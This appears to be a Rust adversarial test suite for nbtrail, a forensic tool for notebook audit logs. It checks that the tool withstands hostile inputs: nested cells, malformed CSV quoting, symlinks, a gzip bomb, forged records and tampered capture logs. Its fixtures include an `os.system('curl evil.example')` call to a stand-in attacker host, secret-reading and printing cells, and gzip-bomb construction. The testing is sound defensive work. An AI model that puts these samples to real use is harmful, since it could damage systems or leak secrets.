//! The adversarial suite (issue 16): each test is one attack on nbtrail's promises by someone who controls
//! an input file, named after the attack, run against the real binary. Each failed before its fix.
#![allow(clippy::unwrap_used)] // test code: a failing unwrap is a failing test

mod common;

use common::*;
use serde_json::{Value, json as j};
use std::path::{Path, PathBuf};

/// A Databricks delivered-format `runCommand` record.
fn run_command(
    user: &str,
    notebook: &str,
    command_id: u64,
    time_ms: i64,
    language: &str,
    code: &str,
) -> Value {
    j!({
        "accountId": "a1b2c3d4-0000-4000-8000-00000000acc1",
        "actionName": "runCommand",
        "auditLevel": "WORKSPACE_LEVEL",
        "requestId": format!("req-{notebook}-{command_id}"),
        "requestParams": {
            "clusterId": "0101-000000-adv",
            "commandId": command_id.to_string(),
            "commandLanguage": language,
            "commandText": code,
            "executionTime": "0.5",
            "notebookId": notebook,
            "status": "finished"
        },
        "response": {"errorMessage": null, "result": null, "statusCode": 200},
        "serviceName": "notebook",
        "sessionId": "ses-adv",
        "sourceIPAddress": "10.0.0.1",
        "timestamp": time_ms,
        "userAgent": "test",
        "userIdentity": {"email": user},
        "version": "2.0",
        "workspaceId": 1
    })
}

fn write_jsonl(path: &Path, records: &[Value]) {
    let mut text = String::new();
    for r in records {
        text.push_str(&serde_json::to_string(r).unwrap());
        text.push('\n');
    }
    std::fs::write(path, text).unwrap();
}

fn ingest(case: &Path, inputs: &[&Path]) -> Value {
    let mut args: Vec<&std::ffi::OsStr> =
        vec!["ingest".as_ref(), "--case".as_ref(), case.as_os_str()];
    args.extend(inputs.iter().map(|p| p.as_os_str()));
    json(args)
}

fn findings(case: &Path) -> Vec<Value> {
    let v = json([
        "findings".as_ref(),
        "--case".as_ref(),
        case.as_os_str(),
        "--json".as_ref(),
    ]);
    v.as_array().cloned().unwrap_or_default()
}

fn tmp_case() -> (tempfile::TempDir, PathBuf) {
    let d = tempfile::tempdir().unwrap();
    let case = d.path().join("case");
    (d, case)
}

/// Hostile cells of every nesting kind (and one larger than the index's text bound) in the same case as
/// an ordinary incident: the case ingests, searches, re-indexes and analyzes, the hostile cells are
/// reported as not analyzed, and the incident is still found.
#[test]
fn deeply_nested_cells_do_not_blind_the_case() {
    let (d, case) = tmp_case();
    let n = 20_000;
    let hostile = [
        format!("x = {}", vec!["1"; n].join("+")),
        format!("x = a{}", ".b".repeat(n)),
        format!("x = f{}", "()".repeat(n)),
        format!("x = {}a{}", "(".repeat(n), ")".repeat(n)),
        format!("x = {}{}", "[".repeat(n), "]".repeat(n)),
        format!("x = {}a", "not ".repeat(n)),
        format!("x = {}1", "lambda: ".repeat(n)),
        format!("SELECT {} FROM prod.deep", vec!["1"; n].join("+")),
        // Over the search index's text bound (16 MiB): indexed head and tail, marked as cut.
        format!(
            "{}\nimport os; os.system('curl evil.example')  # hugecelltail\n",
            "# padding padding padding\n".repeat(700_000)
        ),
    ];
    let t0 = 1_714_000_000_000i64;
    let mut records = vec![
        run_command(
            "mallory@example.com",
            "nb-incident",
            1,
            t0,
            "python",
            "tok = dbutils.secrets.get('prod', 'api')",
        ),
        run_command(
            "mallory@example.com",
            "nb-incident",
            2,
            t0 + 1000,
            "python",
            "print(tok)",
        ),
    ];
    for (i, code) in hostile.iter().enumerate() {
        let lang = if code.starts_with("SELECT") {
            "sql"
        } else {
            "python"
        };
        records.push(run_command(
            "mallory@example.com",
            "nb-hostile",
            10 + i as u64,
            t0 + 10_000 + i as i64 * 1000,
            lang,
            code,
        ));
    }
    let log = d.path().join("audit.json");
    write_jsonl(&log, &records);
    let report = ingest(&case, &[&log]);
    assert_eq!(u(&report["events"]), records.len() as u64, "{report}");

    // Search works, including words after 16 MiB of padding (the indexed tail) and the cut mark.
    assert_eq!(search(&case, "hugecelltail")["total"], 1);
    assert_eq!(search(&case, "nbtrail_index_cut")["total"], 1);
    assert_eq!(search(&case, "code:secrets.get")["total"], 1);
    let r = nbtrail(["reindex", "--case", case.to_str().unwrap()]);
    let err = String::from_utf8_lossy(&r.stderr);
    assert!(r.status.success(), "{err}");
    assert!(
        err.contains(&format!("indexed {} event(s)", records.len())),
        "{err}"
    );
    assert_eq!(search(&case, "table:prod.deep")["total"], 1);

    let out = nbtrail([
        "analyze",
        "--case",
        case.to_str().unwrap(),
        "--no-detections",
    ]);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let f = findings(&case);
    let codes: Vec<&str> = f.iter().map(|f| f["rule"].as_str().unwrap()).collect();
    assert!(
        codes.contains(&"NBT001"),
        "the incident was not found: {codes:?}"
    );
    // Seven deep Python cells and the huge one: each reported, none silently skipped. (The SQL cell is
    // keyword-scanned for its tables and is not Python.)
    assert_eq!(
        codes.iter().filter(|c| **c == "NBT900").count(),
        8,
        "{codes:?}"
    );
}

/// A system-table CSV export where one unquoted field holds a lone `"` (`Mozilla 5" tablet`): every row
/// after it used to vanish into that field, with the counts still adding up.
#[test]
fn csv_unbalanced_quote_in_an_unquoted_field_swallows_no_rows() {
    let (d, case) = tmp_case();
    let original =
        std::fs::read_to_string(sample_logs().join("system-table/audit_2024-05-10_2024-05-21.csv"))
            .unwrap();
    let clean_report = ingest(
        &d.path().join("clean"),
        &[&sample_logs().join("system-table/audit_2024-05-10_2024-05-21.csv")],
    );
    // The first data row's user agent (an unquoted field) becomes `Mozilla 5" tablet`.
    let mut lines: Vec<String> = original.lines().map(str::to_string).collect();
    let mut cols: Vec<String> = lines[1].split(',').map(str::to_string).collect();
    cols[6] = "Mozilla 5\" tablet".into();
    lines[1] = cols.join(",");
    let hostile = d.path().join("audit.csv");
    std::fs::write(&hostile, lines.join("\n") + "\n").unwrap();
    let r = ingest(&case, &[&hostile]);
    for k in ["events", "duplicates", "error_count", "lines"] {
        assert_eq!(r[k], clean_report[k], "{k}: {r}");
    }
    // And an opening quote that never closes costs its own line only.
    let mut lines2: Vec<String> = original.lines().map(str::to_string).collect();
    lines2[1] = lines2[1].replacen(",ses-", ",\"ses-", 1);
    let unclosed = d.path().join("unclosed.csv");
    std::fs::write(&unclosed, lines2.join("\n") + "\n").unwrap();
    let r = ingest(&d.path().join("c2"), &[&unclosed]);
    assert_eq!(
        u(&r["error_count"]),
        u(&clean_report["error_count"]) + 1,
        "{r}"
    );
    assert_eq!(
        u(&r["events"]) + u(&r["duplicates"]),
        u(&clean_report["events"]) + u(&clean_report["duplicates"]) - 1,
        "{r}"
    );
    assert!(
        r["errors"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["line"] == 2 && e["message"].as_str().unwrap().contains("quoted field")),
        "{r}"
    );
}

/// Symbolic links inside an ingested folder were skipped without being listed.
#[cfg(unix)]
#[test]
fn symlinks_in_an_ingested_folder_are_followed_inside_or_listed() {
    let (d, case) = tmp_case();
    let folder = d.path().join("logs");
    std::fs::create_dir(&folder).unwrap();
    let outside = d.path().join("outside.jsonl");
    std::fs::copy(
        sample_logs().join("system-table/audit_2024-05-01_2024-05-12.jsonl"),
        &outside,
    )
    .unwrap();
    std::fs::copy(
        sample_logs().join("azure/DatabricksNotebook_2024-05-01_2024-05-10.jsonl"),
        folder.join("a.jsonl"),
    )
    .unwrap();
    std::os::unix::fs::symlink(folder.join("a.jsonl"), folder.join("b-link.jsonl")).unwrap();
    std::os::unix::fs::symlink(&outside, folder.join("c-outside.jsonl")).unwrap();
    std::os::unix::fs::symlink(d.path().join("missing"), folder.join("d-broken.jsonl")).unwrap();
    let r = ingest(&case, &[&folder]);
    let files: Vec<&str> = r["file_reports"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["file"].as_str().unwrap())
        .collect();
    assert_eq!(files.len(), 2, "{r}");
    assert!(files[1].ends_with("b-link.jsonl"), "{files:?}");
    // The link inside repeats a.jsonl: its records are duplicates (or the same errors), none lost.
    let link = &r["file_reports"][1];
    assert_eq!(u(&link["events"]), 0, "{r}");
    assert_eq!(
        u(&link["duplicates"]) + u(&link["errors"]),
        u(&link["lines"]),
        "{r}"
    );
    assert_eq!(link["errors"], r["file_reports"][0]["errors"]);
    let skipped = r["skipped_files"].to_string();
    assert!(
        skipped.contains("c-outside.jsonl") && skipped.contains("outside the folder"),
        "{skipped}"
    );
    assert!(
        skipped.contains("d-broken.jsonl") && skipped.contains("leads nowhere"),
        "{skipped}"
    );
}

/// 1 MB of gzip inflating to ~1 GB used to take 41 s and fill the case with 440 MB of error rows. It is
/// now stopped at the ratio bound with one clear error naming the file.
#[test]
fn a_gzip_bomb_is_stopped_with_a_clear_error() {
    use std::io::Write;
    let (d, case) = tmp_case();
    let bomb = d.path().join("audit.json.gz");
    let mut gz = flate2::write::GzEncoder::new(
        std::fs::File::create(&bomb).unwrap(),
        flate2::Compression::best(),
    );
    // Real audit records, the same ones over and over (a bomb need not be junk).
    let sample = std::fs::read_to_string(
        sample_logs().join("system-table/audit_2024-05-01_2024-05-12.jsonl"),
    )
    .unwrap();
    let line = sample.lines().take(20).collect::<Vec<_>>().join("\n") + "\n";
    let line = line.repeat(200);
    for _ in 0..300 {
        gz.write_all(line.as_bytes()).unwrap();
    }
    gz.finish().unwrap();
    let size = std::fs::metadata(&bomb).unwrap().len();
    assert!(size < 8 << 20, "{size}");
    let started = std::time::Instant::now();
    let out = nbtrail([
        "ingest",
        "--case",
        case.to_str().unwrap(),
        bomb.to_str().unwrap(),
    ]);
    let text =
        String::from_utf8_lossy(&out.stdout).to_string() + &String::from_utf8_lossy(&out.stderr);
    assert!(text.contains("refused to decompress further"), "{text}");
    assert!(text.contains("audit.json.gz"), "{text}");
    assert!(started.elapsed().as_secs() < 30);
}

/// Records sharing a natural key but differing in content (another user, other code) were counted as
/// duplicates: the first file read won and the other record was dropped without a word, so a forged
/// file read first could push out the genuine record. Now the second is a conflict, kept verbatim.
#[test]
fn a_forged_record_with_a_genuine_records_key_is_a_conflict_not_a_duplicate() {
    let (d, case) = tmp_case();
    let t0 = 1_714_000_000_000i64;
    let genuine = run_command("alice@example.com", "nb-1", 7, t0, "python", "df.count()");
    let mut forged = genuine.clone();
    forged["userIdentity"]["email"] = "mallory@example.com".into();
    forged["response"] =
        j!({"errorMessage": "PermissionDenied", "result": null, "statusCode": 403});
    let (fp, gp) = (
        d.path().join("a-forged.json"),
        d.path().join("b-genuine.json"),
    );
    write_jsonl(&fp, &[forged]);
    write_jsonl(&gp, &[genuine.clone(), genuine]);
    let r = ingest(&case, &[&fp, &gp]);
    assert_eq!(
        (
            u(&r["events"]),
            u(&r["duplicates"]),
            u(&r["conflicts"]),
            u(&r["lines"])
        ),
        (1, 0, 2, 3),
        "{r}"
    );
    assert_eq!(r["file_reports"][1]["conflicts"], 2, "{r}");
    let rows = json(["conflicts", "--case", case.to_str().unwrap(), "--json"]);
    let rows = rows.as_array().unwrap();
    assert_eq!(rows.len(), 2);
    let fields: Vec<&str> = rows[0]["fields"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["field"].as_str().unwrap())
        .collect();
    assert_eq!(fields, ["user", "response_status", "response_error"]);
    assert_eq!(rows[0]["fields"][0]["stored"], "mallory@example.com");
    assert_eq!(rows[0]["fields"][0]["record"], "alice@example.com");
    assert!(
        rows[0]["raw"]
            .as_str()
            .unwrap()
            .contains("alice@example.com")
    );
    assert!(
        rows[0]["file"]
            .as_str()
            .unwrap()
            .ends_with("b-genuine.json")
    );
    let summary = json(["summary", "--case", case.to_str().unwrap(), "--json"]);
    assert_eq!(summary["conflicts"], 2, "{summary}");
    // An exact re-delivery is still a duplicate (the sample-log tests check the same across export
    // shapes); a response with its error message missing is a conflict.
    let mut same_shape_b =
        run_command("mallory@example.com", "nb-1", 7, t0, "python", "df.count()");
    same_shape_b["response"] =
        j!({"errorMessage": "PermissionDenied", "result": null, "statusCode": 403});
    let mut no_message = same_shape_b.clone();
    no_message["response"] = j!({"statusCode": 403});
    let pp = d.path().join("c-again.json");
    write_jsonl(&pp, &[same_shape_b, no_message]);
    let r = ingest(&case, &[&fp, &pp]);
    assert_eq!((u(&r["duplicates"]), u(&r["conflicts"])), (2, 1), "{r}");
}

/// A capture log segment of `n` records (a `segment_start`, then execute requests whose code names `tag`),
/// chained as the gateway writes them.
fn capture_lines(tag: &str, n: usize) -> Vec<String> {
    let mut prev = "0".repeat(64);
    let mut out = Vec::new();
    for seq in 1..=n as u64 {
        let (kind, fields) = if seq == 1 {
            ("segment_start", j!({"segment": 1, "previous": null}))
        } else {
            (
                "kernel_message",
                j!({"conn": 1, "direction": "to_kernel", "user": "carol", "kernel_id": "k1",
                    "msg_type": "execute_request", "msg_id": format!("m{seq}"), "channel": "shell",
                    "header": {"msg_id": format!("m{seq}"), "msg_type": "execute_request"},
                    "parent_header": {}, "metadata": {},
                    "content": {"code": format!("print('{tag} {seq}')")}}),
            )
        };
        let (line, hash) = nbtrail_capture::encode_record(
            seq,
            &prev,
            &format!("2026-11-29T10:00:{seq:02}.000Z"),
            kind,
            fields.as_object().unwrap(),
        );
        prev = hash;
        out.push(line);
    }
    out
}

/// Issue 15, provenance at ingest: capture-shaped lines inside any file became captured events (cells a
/// user ran and saw) with no check. Now only a capture log whose chain holds is read as one.
#[test]
fn capture_records_outside_a_verifiable_capture_log_are_rejected() {
    let (d, case) = tmp_case();
    // A genuine segment ingests whole.
    let good = d.path().join("capture-000001.jsonl");
    std::fs::write(&good, capture_lines("genuine", 4).join("\n") + "\n").unwrap();
    let r = ingest(&case, &[&good]);
    assert_eq!((u(&r["events"]), u(&r["error_count"])), (4, 0), "{r}");

    // A capture-shaped line in a Databricks file: rejected, the Databricks record kept.
    let mixed = d.path().join("audit.json");
    let mut text = serde_json::to_string(&run_command(
        "dave@example.com",
        "nb",
        1,
        1_714_000_000_000,
        "python",
        "1",
    ))
    .unwrap();
    text.push('\n');
    text.push_str(&capture_lines("smuggled", 2)[1]);
    text.push('\n');
    std::fs::write(&mixed, text).unwrap();
    let r = ingest(&case, &[&mixed]);
    assert_eq!((u(&r["events"]), u(&r["error_count"])), (1, 1), "{r}");
    assert!(
        r["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("not a capture log"),
        "{r}"
    );

    // A record edited after the fact (hash no longer matches), and everything after it: rejected.
    let mut lines = capture_lines("edited", 5);
    lines[2] = lines[2].replace("edited 3", "EDITED 3");
    let edited = d.path().join("capture-000002.jsonl");
    std::fs::write(&edited, lines.join("\n") + "\n").unwrap();
    let r = ingest(&d.path().join("c2"), &[&edited]);
    assert_eq!((u(&r["events"]), u(&r["error_count"])), (2, 3), "{r}");
    assert!(
        r["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("altered"),
        "{r}"
    );
    // A record taken out of the middle: the next one no longer links.
    let mut lines = capture_lines("cut", 5);
    lines.remove(2);
    let cut = d.path().join("capture-000003.jsonl");
    std::fs::write(&cut, lines.join("\n") + "\n").unwrap();
    let r = ingest(&d.path().join("c3"), &[&cut]);
    assert_eq!((u(&r["events"]), u(&r["error_count"])), (2, 2), "{r}");
    assert!(
        r["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("does not follow"),
        "{r}"
    );
    // Neither forged cell is searchable as code someone ran.
    assert_eq!(search(&case, "smuggled")["total"], 0);
}

/// Issue 15, provenance at ingest: a record the gateway wrote but never acknowledged (its write failed, so
/// the message was refused and never reached the kernel) must not become a cell that ran; every captured
/// cell says how far it is verified (signed checkpoint and by which key, or hash chain only); and a log
/// whose first segments were rotated away still verifies (with a note) and ingests.
#[cfg(unix)]
#[test]
fn capture_unacknowledged_record_is_a_refusal_and_rotated_logs_verify() {
    use nbtrail_capture::RecordType;
    use nbtrail_capture::writer::{Entry, LogWriter, WriterConfig};
    let (d, case) = tmp_case();
    let logs = d.path().join("capture");
    std::fs::create_dir(&logs).unwrap();
    let key = nbtrail_capture::generate_signing_key(&d.path().join("k")).unwrap();
    let pubkey = nbtrail_capture::public_key_hex(&key);
    let mut w = LogWriter::open(
        &logs,
        WriterConfig {
            signer: Some(key),
            checkpoint_every: 1,
            ..Default::default()
        },
    )
    .unwrap();
    let exec = |seq: u32, code: &str| {
        Entry::new(
            RecordType::KernelMessage,
            j!({"conn": 1, "direction": "to_kernel", "user": "carol", "kernel_id": "k1",
                "msg_type": "execute_request", "msg_id": format!("m{seq}"), "channel": "shell",
                "header": {"msg_id": format!("m{seq}"), "msg_type": "execute_request"},
                "parent_header": {}, "metadata": {}, "content": {"code": code}}),
        )
    };
    w.append(&[exec(1, "print('acknowledged_one')")]).unwrap();
    let seg = w.current_segment().unwrap().to_path_buf();
    // The write of the next message fails (the segment is gone for a moment): refused, not forwarded...
    let away = d.path().join("away");
    std::fs::rename(&seg, &away).unwrap();
    w.append(&[exec(2, "print('never_ran')")]).unwrap_err();
    std::fs::rename(&away, &seg).unwrap();
    // ...but its bytes did reach the disk: a whole, correctly chained record.
    let text = std::fs::read_to_string(&seg).unwrap();
    let last: Value = serde_json::from_str(text.lines().last().unwrap()).unwrap();
    let fields = j!({"conn": 1, "direction": "to_kernel", "user": "carol", "kernel_id": "k1",
        "msg_type": "execute_request", "msg_id": "m2", "channel": "shell",
        "content": {"code": "print('never_ran')"}});
    let (line, _) = nbtrail_capture::encode_record(
        last["seq"].as_u64().unwrap() + 1,
        last["hash"].as_str().unwrap(),
        &nbtrail_capture::now(),
        "kernel_message",
        fields.as_object().unwrap(),
    );
    std::fs::write(&seg, format!("{text}{line}\n")).unwrap();
    // The gateway recovers in a new segment that says where the acknowledged records end.
    w.append(&[exec(3, "print('acknowledged_two')")]).unwrap();
    w.close().unwrap();

    let r = ingest(&case, &[&logs]);
    assert_eq!(u(&r["error_count"]), 0, "{r}");
    let refused = json([
        "events".as_ref(),
        "--case".as_ref(),
        case.as_os_str(),
        "--action".as_ref(),
        "gateway.unacknowledged_write".as_ref(),
        "--json".as_ref(),
    ]);
    assert_eq!(refused.as_array().unwrap().len(), 1, "{refused}");
    let sessions = json([
        "sessions".as_ref(),
        "--case".as_ref(),
        case.as_os_str(),
        "--json".as_ref(),
    ]);
    let s = &sessions[0];
    assert_eq!(
        s["cells"], 2,
        "only acknowledged executions are cells: {sessions}"
    );
    let replay = json([
        "replay".as_ref(),
        "--case".as_ref(),
        case.as_os_str(),
        s["id"].as_str().unwrap().as_ref(),
        "--json".as_ref(),
    ]);
    for c in replay["cells"].as_array().unwrap() {
        assert!(!c["code"].as_str().unwrap().contains("never_ran"));
        assert_eq!(c["verified"], "signed", "{c}");
        assert_eq!(c["signer"], pubkey.as_str());
    }
    assert_eq!(search(&case, "code:never_ran")["total"], 0);
    // With --capture-key: the gateway's key is accepted; another key rejects every record, saying why.
    let r = json([
        "ingest".as_ref(),
        "--case".as_ref(),
        d.path().join("keyed").as_os_str(),
        "--capture-key".as_ref(),
        pubkey.as_ref(),
        logs.as_os_str(),
    ]);
    assert_eq!(u(&r["error_count"]), 0, "{r}");
    assert!(u(&r["events"]) > 0);
    let other = "ab".repeat(32);
    let out = nbtrail([
        "ingest".as_ref(),
        "--case".as_ref(),
        d.path().join("other").as_os_str(),
        "--capture-key".as_ref(),
        other.as_ref(),
        logs.as_os_str(),
    ]);
    let text =
        String::from_utf8_lossy(&out.stdout).to_string() + &String::from_utf8_lossy(&out.stderr);
    assert!(
        text.contains("not by a required --capture-key") && text.contains(&pubkey),
        "{text}"
    );
    let r: Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
    assert_eq!(r["events"], 0, "{text}");

    // Rotated away: without segment 1 the log verifies from segment 2 (and says so), and ingests.
    std::fs::remove_file(&seg).unwrap();
    let v = json([
        "verify-log".as_ref(),
        "--json".as_ref(),
        "--key".as_ref(),
        pubkey.as_ref(),
        logs.as_os_str(),
    ]);
    assert_eq!(v["ok"], true, "{v}");
    assert!(
        v["notes"]
            .as_array()
            .unwrap()
            .iter()
            .any(|n| n.as_str().unwrap().contains("rotated away")),
        "{v}"
    );
    let r = ingest(&d.path().join("case2"), &[&logs]);
    assert_eq!(u(&r["error_count"]), 0, "{r}");
    assert_eq!(
        search(&d.path().join("case2"), "code:acknowledged_two")["total"],
        1
    );
}

/// Issue 17: the unit of analysis is the interpreter's lifetime. A secret read at 10:00 and printed at
/// 13:30 on the same attach is two display sessions (the idle gap splits them) but one REPL: one trace,
/// stored with the session of the cell that leaks. A new attach starts a new interpreter.
#[test]
fn a_secret_read_before_an_idle_gap_and_leaked_after_it_is_one_trace() {
    let (d, case) = tmp_case();
    let h = 3_600_000i64;
    let t0 = 1_714_557_600_000i64; // 2024-05-01T10:00Z
    let path = d.path().join("audit.json");
    write_jsonl(
        &path,
        &[
            run_command(
                "ann@example.com",
                "nb-idle",
                1,
                t0,
                "python",
                "tok = dbutils.secrets.get('prod', 'api')",
            ),
            run_command(
                "ann@example.com",
                "nb-idle",
                2,
                t0 + 3 * h + 30 * 60_000,
                "python",
                "print(tok)",
            ),
        ],
    );
    ingest(&case, &[&path]);
    let sessions = json([
        "sessions".as_ref(),
        "--case".as_ref(),
        case.as_os_str(),
        "--json".as_ref(),
    ]);
    let sessions = sessions.as_array().unwrap();
    assert_eq!(
        sessions.len(),
        2,
        "the idle gap splits the display sessions"
    );
    let out = nbtrail([
        "analyze".as_ref(),
        "--case".as_ref(),
        case.as_os_str(),
        "--no-detections".as_ref(),
    ]);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let f = findings(&case);
    assert_eq!(f.len(), 1, "{f:?}");
    assert_eq!(f[0]["rule"], "NBT001");
    let later = sessions
        .iter()
        .max_by_key(|s| s["start"].as_str().unwrap().to_string())
        .unwrap();
    assert_eq!(f[0]["session_id"], later["id"]);
    // The trace starts in the earlier session's cell.
    assert_ne!(
        f[0]["trace"][0]["cell"]["event_id"],
        f[0]["cell"]["event_id"]
    );
}
